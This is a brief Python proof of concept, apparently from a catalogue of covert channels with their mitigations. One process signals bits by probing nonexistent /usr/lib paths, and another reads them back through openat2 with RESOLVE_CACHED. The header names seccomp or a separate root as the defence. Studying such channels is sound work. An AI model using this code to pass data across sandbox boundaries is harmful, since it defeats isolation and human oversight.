# attack: names that are in nobody's folder, but in the kernel's cache once somebody has asked for them
# wall: seccomp: openat2 (RESOLVE_CACHED) does not exist; a root of its own

import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)


def send(bits):
    for n, bit in enumerate(bits):
        if bit:
            os.path.exists(f"/usr/lib/{KEY}-{n}")


def receive(count):
    got = []
    for n in range(count):
        how = struct.pack("QQQ", os.O_PATH, 0, 0x20)
        libc.syscall(437, -100, f"/usr/lib/{KEY}-{n}".encode(), how, len(how))
        got.append(int(ctypes.get_errno() == 2))
    return got
